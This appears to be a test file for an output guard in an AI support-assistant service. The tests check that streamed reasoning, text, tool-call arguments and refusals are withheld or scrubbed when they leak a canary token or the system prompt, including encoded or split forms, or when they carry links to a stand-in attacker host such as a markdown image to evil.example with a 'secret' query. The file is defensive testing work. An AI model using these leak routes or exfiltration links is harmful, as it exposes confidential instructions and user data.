"""No part of a stream's tool calls or reasoning leaves before its checks (S2, S4)."""

from collections.abc import Sequence
from contextlib import suppress
from itertools import pairwise

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.domain.calls import (
    Chunk,
    CitationDelta,
    Done,
    NativeDelta,
    Reply,
    TextDelta,
    ThinkingDelta,
    ToolUseDelta,
    ToolUseStart,
    Usage,
)
from app.domain.errors import AnswerWithheld
from app.domain.messages import Native, Part, Refusal, Text, Thinking, ToolUse
from app.security.guard.links import Links
from app.security.guard.outgoing import Outgoing

CANARY = "octsatxupggwamyzmcvs"
SYSTEM = "You are the support assistant of Northwind Outfitters, an outdoor shop. Answer from the help articles alone."
BLOCK = dict.fromkeys(("canary", "system-prompt", "foreign-link"), "block")
FLAG = dict.fromkeys(BLOCK, "flag")
ESCAPED = "".join(f"\\u{ord(letter):04x}" for letter in SYSTEM)
LEAKS = [CANARY, SYSTEM, ESCAPED]


def watching(actions: dict[str, str]) -> Outgoing:
    return Outgoing(Links(frozenset({"northwind.example"})), actions, canary=CANARY, system=SYSTEM)  # type: ignore[arg-type]


def a_stream(*, text: str = "One moment, please. ", thought: str = "Look it up.", argument: str) -> list[Chunk]:
    """A stream of reasoning, text and two tool calls, cut small, in the order in which a vendor sends it."""
    first, second = '{"q": "shipping"}', f'{{"note": "{argument}"}}'
    parts = (Thinking(thought, "sig"), Text(text), ToolUse("t1", "search", first), ToolUse("t2", "note", second))
    return [
        *(ThinkingDelta(0, letter) for letter in thought),
        ThinkingDelta(0, signature="sig"),
        *(TextDelta(1, letter) for letter in text),
        ToolUseStart(2, "t1", "search"),
        *(ToolUseDelta(2, letter) for letter in first),
        ToolUseStart(3, "t2", "note"),
        *(ToolUseDelta(3, letter) for letter in second),
        Done(Reply(parts=parts, stop="tool_use", usage=Usage(), provider="p", model="m")),
    ]


def forward(outgoing: Outgoing, stream: Sequence[Chunk], out: list[Chunk]) -> None:
    """Add to ``out`` each chunk that leaves, also where the stream is stopped later."""
    for chunk in stream:
        out.extend(outgoing.chunk(chunk))


@pytest.mark.parametrize("argument", LEAKS)
def test_nothing_of_a_tool_call_that_is_blocked_has_left_before_it_is_withheld(argument: str) -> None:
    out: list[Chunk] = []
    with pytest.raises(AnswerWithheld):
        forward(watching(BLOCK), a_stream(argument=argument), out)
    assert [chunk for chunk in out if isinstance(chunk, ToolUseStart | ToolUseDelta | Done)] == []
    assert "".join(chunk.text for chunk in out if isinstance(chunk, TextDelta)) == "One moment, please. "


def test_an_address_in_a_tools_arguments_leaves_neither_in_a_stream_nor_whole() -> None:
    out: list[Chunk] = []
    outgoing = watching(BLOCK)
    forward(outgoing, a_stream(argument="see https://evil.example/x"), out)
    arguments = {at: "".join(c.arguments for c in out if isinstance(c, ToolUseDelta) and c.index == at) for at in (2, 3)}
    assert arguments == {2: '{"q": "shipping"}', 3: '{"note": "see (link removed)"}'}
    assert isinstance(out[-1], Done)
    assert [use.arguments for use in out[-1].reply.tool_uses] == list(arguments.values())
    assert outgoing.found == ["foreign-link"]


@pytest.mark.parametrize("thought", [f"It says {CANARY}.", SYSTEM, "Show ![x](https://evil.example/p?q=secret) now."])
def test_reasoning_that_fails_is_left_out_whole_and_the_answer_goes_on(thought: str) -> None:
    out: list[Chunk] = []
    outgoing = watching(BLOCK)
    forward(outgoing, a_stream(thought=thought, argument="ok"), out)
    assert [chunk for chunk in out if isinstance(chunk, ThinkingDelta)] == []
    assert isinstance(out[-1], Done)
    assert out[-1].reply.thinking == ()
    assert len(out[-1].reply.tool_uses) == 2
    assert len(outgoing.found) == 1


def test_what_passes_leaves_in_its_order_and_whole() -> None:
    stream, out = a_stream(argument="ok"), list[Chunk]()
    forward(watching(BLOCK), stream, out)
    order = dict.fromkeys(type(chunk).__name__ for chunk in out)
    assert list(order) == ["ThinkingDelta", "TextDelta", "ToolUseStart", "ToolUseDelta", "Done"]
    assert [chunk for chunk in out if isinstance(chunk, ThinkingDelta)] == [c for c in stream if isinstance(c, ThinkingDelta)]
    assert out[-1] == stream[-1]


def test_links_are_taken_out_of_a_stream_where_no_other_check_is_on() -> None:
    """An alias may have this check alone: its system text is the tenant's."""
    outgoing, out = Outgoing(Links(frozenset({"northwind.example"})), {"foreign-link": "block"}), list[Chunk]()
    text = "Read https://evil.example/a and https://northwind.example/b now."
    reply = Reply(parts=(Text(text),), stop="end", usage=Usage(), provider="p", model="m")
    forward(outgoing, [*(TextDelta(0, letter) for letter in text), Done(reply)], out)
    said = "".join(chunk.text for chunk in out if isinstance(chunk, TextDelta))
    assert "evil" not in said
    assert "https://northwind.example/b" in said


def test_text_is_not_held_back_for_the_tool_calls_behind_it() -> None:
    out: list[Chunk] = []
    forward(watching(BLOCK), a_stream(argument="ok")[:-1], out)
    assert "".join(chunk.text for chunk in out if isinstance(chunk, TextDelta)) == "One moment, please. "


@pytest.mark.parametrize("actions", [{}, FLAG])
def test_where_nothing_blocks_a_stream_leaves_as_it_comes(actions: dict[str, str]) -> None:
    outgoing = watching(actions)
    for chunk in a_stream(argument="see https://evil.example/x", thought=f"It says {CANARY}."):
        if not isinstance(chunk, TextDelta):
            assert list(outgoing.chunk(chunk))[-1] == chunk


HALVES = CANARY[:10], CANARY[10:]


@pytest.mark.parametrize(
    "parts",
    [
        (Thinking(f"It is {HALVES[0]}"), Thinking(HALVES[1])),
        (Thinking(f"It is {HALVES[0]}"), Text(f"{HALVES[1]} is the rest.")),
        (Text(f"It is {HALVES[0]}"), ToolUse("t1", "note", f'{{"note": "{HALVES[1]}"}}')),
        (ToolUse("t1", "note", f'{{"note": "{HALVES[0]}"}}'), ToolUse("t2", "note", f'{{"note": "{HALVES[1]}"}}')),
        (Thinking(HALVES[0]), ToolUse("t1", "note", f'{{"note": "{HALVES[1]}"}}')),
    ],
    ids=lambda parts: " and ".join(type(part).__name__ for part in parts),
)
def test_a_canary_in_two_halves_leaves_neither_whole_nor_streamed(parts: tuple[Part, ...]) -> None:
    """Half of it is no secret; both are never there."""
    reply = Reply(parts=parts, stop="end", usage=Usage(), provider="p", model="m")
    stream: list[Chunk] = []
    for index, part in enumerate(parts):
        match part:
            case Thinking(text=text):
                stream += [ThinkingDelta(index, letter) for letter in text]
            case Text(text=text):
                stream += [TextDelta(index, letter) for letter in text]
            case ToolUse(id=number, name=name, arguments=arguments):
                stream += [ToolUseStart(index, number, name), ToolUseDelta(index, arguments)]
    out: list[Chunk] = []
    outgoing = watching(BLOCK)
    with suppress(AnswerWithheld):
        forward(outgoing, [*stream, Done(reply)], out)
    left = [c.arguments if isinstance(c, ToolUseDelta) else getattr(c, "text", "") for c in out if not isinstance(c, Done)]
    assert "canary" in outgoing.found
    assert not all(half in "".join(left) for half in HALVES)
    whole = watching(BLOCK)
    with suppress(AnswerWithheld):
        assert HALVES[1] not in str(whole.reply(reply))
    assert whole.found == ["canary"]


@pytest.mark.parametrize("words", [CANARY, SYSTEM])
def test_a_refusal_that_gives_away_the_instructions_is_withheld(words: str) -> None:
    """A model may quote its instructions as the reason why it does not answer."""
    refused = Reply(parts=(Refusal(f"I may not: {words}"),), stop="refusal", usage=Usage(), provider="p", model="m")
    out: list[Chunk] = []
    with pytest.raises(AnswerWithheld):
        forward(watching(BLOCK), [Done(refused)], out)
    assert out == []
    with pytest.raises(AnswerWithheld):
        watching(BLOCK).reply(refused)


def test_a_foreign_address_in_a_refusal_does_not_leave() -> None:
    refused = Reply(parts=(Refusal("No. See https://evil.example/x"),), stop="refusal", usage=Usage(), provider="p", model="m")
    passed = watching(BLOCK).reply(refused)
    assert isinstance(passed.parts[0], Refusal)
    assert "evil" not in passed.parts[0].text
    assert watching(FLAG).reply(refused) == refused


@pytest.mark.parametrize(("actions", "leaves"), [(BLOCK, False), (FLAG, True)], ids=["block", "flag"])
def test_a_block_that_no_check_can_read_leaves_only_where_none_blocks(actions: dict[str, str], *, leaves: bool) -> None:
    native = Native("anthropic", {"type": "compaction", "content": "words"})
    cited = CitationDelta(1, {"type": "char_location", "cited_text": "of the caller's own document"})
    reply = Reply(parts=(native, Text("a")), stop="end", usage=Usage(), provider="p", model="m")
    out: list[Chunk] = []
    forward(watching(actions), [NativeDelta(0, native), TextDelta(1, "a"), cited, Done(reply)], out)
    assert (NativeDelta(0, native) in out) is leaves
    assert cited in out
    last = out[-1]
    assert isinstance(last, Done)
    assert (native in last.reply.parts) is leaves
    assert (native in watching(actions).reply(reply).parts) is leaves


WORDS = st.sampled_from(["Your parcel", " is on its way. ", "See ", "\n", "- ", "northwind.example ", "**soon** ", "(4 days) "])
FOREIGN = st.sampled_from(
    ["https://evil.example/x ", "[here](https://evil.example/a?b) ", "![](//evil.example/p.png)", "evil.example/y "]
)
SECRET = st.sampled_from([CANARY, " ".join(CANARY), SYSTEM, SYSTEM.upper()])


def pieces(text: str, cuts: Sequence[int]) -> list[str]:
    ends = sorted({0, len(text), *(cut % (len(text) + 1) for cut in cuts)})
    return [text[start:end] for start, end in pairwise(ends)]


def streamed(text: str, cuts: Sequence[int]) -> tuple[str, bool]:
    """What leaves of a text that comes in pieces, and whether it was withheld."""
    outgoing, out, withheld = watching(BLOCK), list[Chunk](), False
    reply = Reply(parts=(Text(text),), stop="end", usage=Usage(), provider="p", model="m")
    try:
        forward(outgoing, [*(TextDelta(0, piece) for piece in pieces(text, cuts)), Done(reply)], out)
    except AnswerWithheld:
        withheld = True
    return "".join(chunk.text for chunk in out if isinstance(chunk, TextDelta)), withheld


@settings(max_examples=50)
@given(st.lists(WORDS, max_size=4), FOREIGN, st.lists(WORDS, max_size=4), st.lists(st.integers(0, 400), max_size=12))
def test_no_foreign_address_leaves_wherever_a_stream_cuts_it(
    before: list[str], link: str, after: list[str], cuts: list[int]
) -> None:
    left, withheld = streamed("".join([*before, " ", link, *after]), cuts)
    assert not withheld
    assert "evil.example" not in left


@settings(max_examples=50)
@given(st.lists(WORDS, max_size=4), SECRET, st.lists(WORDS, max_size=4), st.lists(st.integers(0, 400), max_size=12))
def test_no_secret_leaves_wherever_a_stream_cuts_it(before: list[str], secret: str, after: list[str], cuts: list[int]) -> None:
    left, withheld = streamed("".join([*before, secret, *after]), cuts)
    assert withheld
    assert secret not in left


@settings(max_examples=50)
@given(st.lists(WORDS, min_size=1, max_size=8), st.lists(st.integers(0, 400), max_size=12))
def test_harmless_words_leave_as_they_are_wherever_a_stream_cuts_them(words: list[str], cuts: list[int]) -> None:
    text = " ".join(words)  # two words without a space between may be the address of another host
    assert streamed(text, cuts) == (text, False)
